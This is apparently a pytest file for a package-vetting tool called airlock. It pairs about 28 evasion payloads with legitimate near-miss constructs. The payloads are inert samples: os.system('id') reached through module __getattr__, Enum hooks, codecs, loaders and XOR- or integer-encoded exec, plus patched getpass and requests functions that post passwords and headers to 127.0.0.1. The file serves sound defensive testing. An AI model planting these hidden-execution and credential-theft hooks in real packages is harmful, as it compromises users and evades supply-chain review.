"""Payloads a patient adversary tries after reading ADR 0063's list of what is still allowed
(ADR 0067): code the language or a library calls with no call of it written (a module's
``__getattr__``, a library function replaced by a local one, Enum hooks, a codec, a loader
made into a spec, a class-body lambda or ``setattr``'d ``__init__``), and code spelt where the
folding did not reach (constants joined across modules, an XOR table built by a dict
comprehension, an integer's bytes, a list named lines before its loop, ``functools.reduce``).

Each sample is inert (a command ``id``, a host 127.0.0.1, never run or installed: vetting
only reads files), each was allowed on b189886, and each has a near-miss written the way
real packages write the same construct, which stays allowed."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import RUN, init, vet_wheel, xored

POST = "urllib.request.urlopen('http://127.0.0.1:9/x', data={data})"


EVASIONS: dict[str, dict[str, str]] = {
    # PEP 562: ``from evpkg import anything`` (or ``evpkg.x``) calls it.
    "module-getattr": init(f"import os\n\n\ndef __getattr__(name):\n    {RUN}\n"),
    "module-getattr-star": {
        "evpkg/__init__.py": "from .core import *\n",
        "evpkg/core.py": f"import os\n\n\ndef __getattr__(name):\n    {RUN}\n",
    },
    # Every caller of getpass.getpass (in any package) now hands its password over.
    "patched-getpass": init(
        "import getpass, urllib.request\n_orig = getpass.getpass\n\n\n"
        "def steal(prompt='Password: ', stream=None):\n    p = _orig(prompt, stream)\n"
        f"    {POST.format(data='p.encode()')}\n    return p\n\n\ngetpass.getpass = steal\n"
    ),
    "patched-session-send": init(
        "import requests, urllib.request\n_send = requests.Session.send\n\n\n"
        "def send(self, req, **kw):\n"
        f"    {POST.format(data='str(req.headers).encode()')}\n"
        "    return _send(self, req, **kw)\n\n\nrequests.Session.send = send\n"
    ),
    "patched-by-setattr": init(
        "import getpass, urllib.request\n\n\ndef steal(prompt='Password: ', stream=None):\n"
        f"    {POST.format(data='prompt.encode()')}\n\n\n"
        "setattr(getpass, 'getpass', steal)\n"
    ),
    "patched-through-the-module-dict": init(
        "import getpass, urllib.request\n\n\ndef steal(prompt='Password: ', stream=None):\n"
        f"    {POST.format(data='prompt.encode()')}\n\n\n"
        "vars(getpass)['getpass'] = steal\n"
    ),
    "patched-inside-a-function-run-on-import": init(
        "import getpass, urllib.request\n\n\ndef steal(prompt='Password: ', stream=None):\n"
        f"    {POST.format(data='prompt.encode()')}\n\n\n"
        "def install():\n    getpass.getpass = steal\n\n\ninstall()\n"
    ),
    "patched-by-setattr-lambda": init(
        "import os, subprocess\nsubprocess.Popen.__del__ = lambda self: os.system('id')\n"
    ),
    "enum-missing": init(
        "import enum, os\n\n\nclass C(enum.Enum):\n    A = 1\n\n    @classmethod\n"
        f"    def _missing_(cls, value):\n        {RUN}\n\n\nC(5)\n"
    ),
    "enum-member-init": init(
        "import os\nfrom enum import Enum\n\n\nclass C(Enum):\n    A = 1\n\n"
        f"    def __init__(self, value):\n        {RUN}\n"
    ),
    "exec-of-constants-joined-across-modules": {
        "evpkg/__init__.py": "from .a import P1\nfrom .b import P2\nexec(P1 + P2)\n",
        "evpkg/a.py": "P1 = 'import os; os.sys'\n",
        "evpkg/b.py": "P2 = \"tem('id')\"\n",
    },
    "exec-of-module-attributes-joined": {
        "evpkg/__init__.py": "from . import a, b\nexec(a.P1 + b.P2)\n",
        "evpkg/a.py": "P1 = 'import os; os.sys'\n",
        "evpkg/b.py": "P2 = \"tem('id')\"\n",
    },
    "xor-table-by-dict-comprehension": init(
        "K = 7\nT = {i: i ^ K for i in range(256)}\n"
        f"D = bytes({xored('import os;os.system(' + repr('id') + ')', 7)})\n"
        "exec(bytes(T[b] for b in D))\n"
    ),
    "substitution-table-by-dict-comprehension": init(
        "S = {c: chr(ord(c) - 1) for c in '!()*/<efjnpqstuz'}\n"
        "exec(''.join(S.get(c, c) for c in 'jnqpsu!pt<pt/tztufn)(je(*'))\n"
    ),
    "int-to-bytes": init(
        f"n = {int.from_bytes(b'import os;os.system(chr(105)+chr(100))', 'big')}\n"
        "exec(n.to_bytes(38, 'big'))\n"
    ),
    "loop-over-a-list-named-before": init(
        "import os\ncmds = ['id']\nfor c in cmds:\n    os.system(c)\n"
    ),
    "comprehension-over-a-list-named-before": init(
        "import os\ncmds = ['id']\n[os.system(c) for c in cmds]\n"
    ),
    "functools-reduce-of-a-lambda": init(
        "import functools, os\nfunctools.reduce(lambda a, c: os.system(c), ['id'], 0)\n"
    ),
    "codec-registered-from-another-module": {
        "evpkg/__init__.py": (
            "import codecs\nfrom . import evcodec\ncodecs.register(evcodec.search)\n"
        ),
        "evpkg/evcodec.py": (
            "import codecs, os\n\n\ndef decode(b, errors='strict'):\n"
            f"    {RUN}\n    return (bytes(b).decode(), len(b))\n\n\n"
            "def search(name):\n    if name == 'evx':\n"
            "        return codecs.CodecInfo(encode=None, decode=decode, name='evx')\n"
        ),
    },
    "loader-made-into-a-spec": init(
        "import importlib.util\nSRC = \"import os\\nos.system('id')\\n\"\n\n\n"
        "class L:\n    def create_module(self, spec):\n        return None\n\n"
        "    def exec_module(self, m):\n        exec(SRC, m.__dict__)\n\n\n"
        "spec = importlib.util.spec_from_loader('evx', L())\n"
        "m = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(m)\n"
    ),
    "class-body-lambda-init": init(
        "import os\n\n\nclass K:\n    __init__ = lambda self: os.system('id')\n\n\nK()\n"
    ),
    "setattr-init": init(
        "import os\n\n\nclass K:\n    pass\n\n\n"
        "setattr(K, '__init__', lambda self: os.system('id'))\nK()\n"
    ),
    "type-built-init": init(
        "import os\nK = type('K', (), {'__init__': lambda self: os.system('id')})\nK()\n"
    ),
    # The module object's class swapped for one whose attribute access runs code.
    "module-class-swapped": init(
        "import os, sys, types\n\n\nclass M(types.ModuleType):\n"
        f"    def __getattr__(self, name):\n        {RUN}\n\n\n"
        "sys.modules[__name__].__class__ = M\n"
    ),
    "executor-submit-without-arguments": init(
        "import os\nfrom concurrent.futures import ThreadPoolExecutor\n\n\n"
        f"def f():\n    {RUN}\n\n\nThreadPoolExecutor().submit(f)\n"
    ),
    "operator-call": init(f"import os, operator\n\n\ndef f():\n    {RUN}\n\n\noperator.call(f)\n"),
    "class-as-decorator": init(
        f"import os\n\n\nclass K:\n    def __init__(self, fn):\n        {RUN}\n\n\n"
        "@K\ndef g():\n    pass\n"
    ),
}


@pytest.mark.parametrize("key", sorted(EVASIONS))
def test_a_patient_adversarys_payload_is_not_allowed(key: str) -> None:
    assert vet_wheel(EVASIONS[key]) is not Outcome.ALLOW


NEAR_MISSES: dict[str, dict[str, str]] = {
    # The lazy loaders and deprecation shims real packages write.
    "lazy-module-getattr": init(
        "import importlib, warnings\n_LAZY = {'sub': '.sub'}\n\n\n"
        "def __getattr__(name):\n    if name in _LAZY:\n"
        "        return importlib.import_module(_LAZY[name], __name__)\n"
        "    if name == 'old':\n"
        "        warnings.warn('old is deprecated', DeprecationWarning, stacklevel=2)\n"
        "        return 1\n"
        "    raise AttributeError(name)\n"
    ),
    "wrapper-patched-over-a-library-function": init(
        "import logging, requests\n_send = requests.Session.send\n\n\n"
        "def send(self, req, **kw):\n    logging.getLogger(__name__).debug('%s', req.url)\n"
        "    return _send(self, req, **kw)\n\n\nrequests.Session.send = send\n"
        "logging.Logger.trace = lambda self, msg, *a: self.log(5, msg, *a)\n"
    ),
    "enum-missing-case-insensitive": init(
        "import enum\n\n\nclass C(str, enum.Enum):\n    A = 'a'\n\n    @classmethod\n"
        "    def _missing_(cls, value):\n        for m in cls:\n"
        "            if m.value == str(value).lower():\n                return m\n"
        "        return None\n\n\nC('A')\n"
    ),
    "exec-of-harmless-constants-joined": {
        "evpkg/__init__.py": "from .a import P1\nfrom .b import P2\nexec(P1 + P2)\n",
        "evpkg/a.py": "P1 = 'def reraise(tp, value, tb=None):\\n'\n",
        "evpkg/b.py": "P2 = '    raise value.with_traceback(tb)\\n'\n",
    },
    "xor-table-of-data": init(
        "T = {i: i ^ 0x5A for i in range(256)}\nDATA = bytes(T[b] for b in b'hello')\n"
    ),
    "loop-over-names-bound-before": init(
        "import os\nNAMES = ['A', 'B']\nfor n in NAMES:\n    os.environ.setdefault(n, '1')\n"
    ),
    "reduce-of-numbers": init(
        "import functools\nN = functools.reduce(lambda a, b: a + b, [1, 2])\n"
    ),
    "harmless-codec": init(
        "import codecs\n\n\ndef decode(b, errors='strict'):\n"
        "    return (bytes(b)[::-1].decode(), len(b))\n\n\n"
        "def search(name):\n    if name == 'rev':\n"
        "        return codecs.CodecInfo(encode=None, decode=decode, name='rev')\n\n\n"
        "codecs.register(search)\n"
    ),
    "class-body-lambda-repr": init(
        "class K:\n    __repr__ = lambda self: 'K()'\n    __init__ = lambda self: None\n\n\n"
        "X = repr(K())\n"
    ),
    # numpy.distutils' way: a helper puts the package's own methods over distutils' (its
    # ``spawn`` starts the command the compiler is given).
    "build-tool-methods-replaced-by-a-helper": init(
        "import subprocess\nfrom distutils.ccompiler import CCompiler\n\n\n"
        "def replace_method(klass, method_name, func):\n"
        "    setattr(klass, method_name, lambda self, *a, **kw: func(self, *a, **kw))\n\n\n"
        "def spawn(self, cmd, display=None):\n    subprocess.check_output(['cc', '-c'] + cmd)\n\n\n"
        "replace_method(CCompiler, 'spawn', spawn)\n"
    ),
    "lazy-module-class": init(
        "import importlib, sys, types\n\n\nclass Lazy(types.ModuleType):\n"
        "    def __getattr__(self, name):\n"
        "        return importlib.import_module('.' + name, self.__name__)\n\n\n"
        "sys.modules[__name__].__class__ = Lazy\n"
    ),
    "class-decorator-registering": init(
        "REGISTRY = {}\n\n\nclass register:\n    def __init__(self, fn):\n"
        "        REGISTRY[fn.__name__] = fn\n\n\n@register\ndef g():\n    pass\n"
    ),
    "executor-submit-of-a-computation": init(
        "from concurrent.futures import ThreadPoolExecutor\n\n\n"
        "def f():\n    return sum(range(10))\n\n\nN = ThreadPoolExecutor().submit(f)\n"
    ),
}


@pytest.mark.parametrize("key", sorted(NEAR_MISSES))
def test_the_same_construct_written_as_real_packages_write_it_stays_allowed(key: str) -> None:
    assert vet_wheel(NEAR_MISSES[key]) is Outcome.ALLOW
